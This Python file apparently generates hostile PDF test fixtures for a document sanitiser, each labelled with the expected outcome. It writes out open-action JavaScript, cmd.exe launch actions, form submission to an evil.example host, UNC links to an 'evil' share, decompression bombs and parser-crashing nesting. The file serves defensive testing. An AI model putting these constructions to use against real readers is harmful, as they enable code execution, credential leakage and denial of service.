"""Hostile PDFs, written object by object; each name says what the file is."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Mapping

Made = tuple[str, str, bytes, str]
CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>"
TEXT = b"BT /F1 12 Tf 20 100 Td (approved) Tj ET"
JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def written(
    objects: Mapping[int, bytes], *, trailer: bytes = b"", start: int | None = None, version: bytes = b"1.7"
) -> bytes:
    """Objects by number as a file with a true table of them."""
    out, places = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer,
        table if start is None else start,
    )
    return bytes(out)


def document(catalog: bytes = b"", page: bytes = b"", **more: bytes) -> dict[int, bytes]:
    """One page of text; `more` gives further objects as o5=…"""
    base = {1: CATALOG % catalog, 2: PAGES, 3: PAGE % page, 4: stream(TEXT)}
    return base | {int(name[1:]): content for name, content in more.items()}


def honest() -> bytes:
    return written(document())


def packed(content: bytes) -> bytes:
    return stream(zlib.compress(content, 9), b"/Filter /FlateDecode")


def bomb(megabytes: int) -> bytes:
    """Zeros packed once and repeated, as a packer that starts anew each mebibyte would write them."""
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (megabytes - 1) + packer.flush()


def in_object_stream(content: bytes) -> bytes:
    """The hostile object packed into a stream of objects, found by a table that is itself a stream."""
    inner = b"5 0 " + content
    base = document(b"/OpenAction 5 0 R") | {
        6: stream(zlib.compress(inner), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    }
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, told in base.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, told)
    table = len(out)
    rows = [(0, 0, 255)] + [(1, places[n], 0) if n in places else (2, 6, 0) for n in range(1, 7)] + [(1, table, 0)]
    body = b"".join(bytes([kind]) + at.to_bytes(4, "big") + bytes([index]) for kind, at, index in rows)
    head = b"/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R /Index [0 8]"
    out += b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(body, head), table)
    return bytes(out)


def scripts() -> Iterator[Made]:
    yield "JavaScript on opening", "a.pdf", written(document(b"/OpenAction " + JAVASCRIPT)), "refused"
    yield (
        "JavaScript among the names",
        "a.pdf",
        written(document(b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", o5=JAVASCRIPT)),
        "refused",
    )
    yield (
        "JavaScript with an escaped name",
        "a.pdf",
        written(document(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
        "refused",
    )
    yield (
        "JavaScript when a page opens",
        "a.pdf",
        written(document(page=b"/AA << /O " + JAVASCRIPT + b" >>")),
        "refused",
    )
    yield (
        "JavaScript behind a link",
        "a.pdf",
        written(document(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + JAVASCRIPT + b" >>]")),
        "refused",
    )
    yield "JavaScript in a stream of objects", "a.pdf", in_object_stream(JAVASCRIPT), "refused"
    yield (
        "JavaScript in a stream",
        "a.pdf",
        written(document(b"/OpenAction << /S /JavaScript /JS 5 0 R >>", o5=packed(b"app.alert(1)"))),
        "refused",
    )
    yield "JavaScript nobody refers to", "a.pdf", written(document(o5=JAVASCRIPT)), "refused"
    hidden = honest().replace(b"xref\n0 5", b"5 0 obj\n" + JAVASCRIPT + b"\nendobj\nxref\n0 5", 1)
    at = hidden.rindex(b"xref\n0 5")
    yield (
        "JavaScript outside of the table",
        "a.pdf",
        hidden[: hidden.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % at,
        "refused",
    )
    yield (
        "a rendition that runs a script",
        "a.pdf",
        written(document(b"/OpenAction << /S /Rendition /JS (x) >>")),
        "refused",
    )
    yield (
        "a program started on opening",
        "a.pdf",
        written(document(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
        "refused",
    )
    yield (
        "a program started by an action behind an action",
        "a.pdf",
        written(document(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /Win << /F (cmd.exe) >> >> >>")),
        "refused",
    )


def carriers() -> Iterator[Made]:
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    files = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    inner = stream(b"MZ", b"/Type /EmbeddedFile")
    yield "a file attached", "a.pdf", written(document(files, o5=inner, o6=spec)), "refused"
    yield (
        "a file attached to a page",
        "a.pdf",
        written(document(page=b"/Annots [<< /Subtype /FileAttachment /FS 6 0 R >>]", o5=inner, o6=spec)),
        "refused",
    )
    yield (
        "a film",
        "a.pdf",
        written(document(page=b"/Annots [<< /Subtype /Movie /Movie << /F (a.avi) >> >>]")),
        "refused",
    )
    yield (
        "rich media",
        "a.pdf",
        written(document(page=b"/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]")),
        "refused",
    )
    yield (
        "a space in three dimensions",
        "a.pdf",
        written(document(page=b"/Annots [<< /Subtype /3D /3DD 5 0 R >>]", o5=stream(b"x"))),
        "refused",
    )
    yield (
        "a form that is XFA",
        "a.pdf",
        written(document(b"/AcroForm << /XFA 5 0 R >>", o5=stream(b"<xdp/>"))),
        "refused",
    )
    yield (
        "a form that sends itself",
        "a.pdf",
        written(document(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>")),
        "refused",
    )
    yield (
        "data taken from outside",
        "a.pdf",
        written(document(b"/OpenAction << /S /ImportData /F (a.fdf) >>")),
        "refused",
    )
    yield (
        "a link into another file",
        "a.pdf",
        written(document(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>")),
        "refused",
    )
    yield (
        "a stream kept in another file",
        "a.pdf",
        written(document(o5=stream(b"", b"/F (\\\\\\\\evil\\\\share)"))),
        "refused",
    )
    yield (
        "a link that is a script",
        "a.pdf",
        written(document(page=b"/Annots [<< /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]")),
        "refused",
    )
    yield (
        "a link to a file",
        "a.pdf",
        written(document(page=b"/Annots [<< /Subtype /Link /A << /S /URI /URI (file:///c:/a.exe) >> >>]")),
        "refused",
    )
    yield (
        "a link to a page",
        "a.pdf",
        written(document(page=b"/Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.example.gov.cn/) >> >>]")),
        "clean",
    )


def bombs() -> Iterator[Made]:
    yield "a table of objects that points to itself", "a.pdf", written(document(), trailer=b"/Prev 15"), "refused"
    whole = honest()
    at = whole.rindex(b"\nxref\n") + 1
    loop = whole.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d" % at)
    yield "a table of objects whose last is its own before", "a.pdf", loop, "either"
    yield (
        "pages that hold themselves",
        "a.pdf",
        written(document() | {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
        "refused",
    )
    yield (
        "a length that refers to itself",
        "a.pdf",
        written(document() | {4: b"<< /Length 4 0 R >>\nstream\nx\nendstream"}),
        "either",
    )
    yield "no page", "a.pdf", written(document() | {2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "refused"
    yield (
        "a count of pages that lies",
        "a.pdf",
        written(document() | {2: b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"}),
        "either",
    )
    yield (
        "a stream of 300 megabytes in 300 KB",
        "a.pdf",
        written(document() | {4: stream(bomb(300), b"/Filter /FlateDecode")}),
        "refused",
    )
    twice = stream(zlib.compress(bomb(90), 9), b"/Filter [/FlateDecode /FlateDecode]")
    yield "a stream packed twice", "a.pdf", written(document() | {4: twice}), "refused"
    nine = stream(b"x", b"/Filter [" + b"/ASCIIHexDecode " * 900 + b"]")
    yield "a stream under 900 filters", "a.pdf", written(document() | {4: nine}), "refused"
    yield "10,000 brackets deep", "a.pdf", written(document(o5=b"[" * 10_000 + b"]" * 10_000)), "refused"
    yield (
        "100,000 dictionaries deep",
        "a.pdf",
        written(document(o5=b"<< /A " * 100_000 + b"1" + b" >>" * 100_000)),
        "refused",
    )
    yield "a name of a megabyte", "a.pdf", written(document(o5=b"/" + b"A" * 1_000_000)), "either"
    yield "a number of a megabyte", "a.pdf", written(document(o5=b"9" * 1_000_000)), "either"
    yield (
        "30,000 objects",
        "a.pdf",
        written(document() | {at: b"<< /A %d >>" % at for at in range(5, 30_000)}),
        "either",
    )
    big = written(document()).replace(b"0 5\n", b"0 2000000000\n")
    yield "a table that claims 2,000,000,000 objects", "a.pdf", big, "refused"


def broken() -> Iterator[Made]:
    whole = honest()
    yield "an honest PDF", "a.pdf", whole, "clean"
    yield "a PDF under the name of a picture", "a.jpg", whole, "clean"
    yield "a PDF cut in half", "a.pdf", whole[: len(whole) // 2], "refused"
    yield "only the first line of a PDF", "a.pdf", b"%PDF-1.7\n", "refused"
    yield "a PDF without a table", "a.pdf", whole[: whole.rindex(b"xref\n0")] + b"%%EOF\n", "refused"
    yield "a PDF whose table is elsewhere", "a.pdf", written(document(), start=7), "refused"
    yield "a page in front of a PDF", "a.pdf", b"<html>" + whole, "refused"
    yield (
        "a page inside the first line of a PDF",
        "a.pdf",
        whole.replace(b"%\xe2\xe3\xcf\xd3", b"%<script>alert(1)</script>"),
        "refused",
    )
    yield "a page behind a PDF", "a.pdf", whole + b"<script>alert(1)</script>", "refused"
    yield (
        "a PDF with another update behind its end",
        "a.pdf",
        whole + b"\n1 0 obj\n<< /OpenAction " + JAVASCRIPT + b" >>\nendobj\n",
        "refused",
    )
    encrypt = (
        b"/Encrypt << /Filter /Standard /V 1 /R 2 /O ("
        + b"o" * 32
        + b") /U ("
        + b"u" * 32
        + b") /P -4 >> /ID [(a) (a)]"
    )
    yield "a PDF with a password", "a.pdf", written(document(), trailer=encrypt), "refused"
    yield (
        "a PDF locked by a filter nobody knows",
        "a.pdf",
        written(document(), trailer=b"/Encrypt << /Filter /Nobody >>"),
        "refused",
    )


def made() -> Iterator[Made]:
    for group in (scripts, carriers, bombs, broken):
        yield from group()
    from trust.hostile import packages

    whole = honest()
    yield "an archive behind a PDF", "a.pdf", whole + packages.archive({"a.txt": b"x"}), "refused"
    yield (
        "an archive inside a PDF, its end last",
        "a.pdf",
        whole[:-6] + packages.archive({"a.txt": b"x"}, comment=b"\n%%EOF\n"),
        "refused",
    )
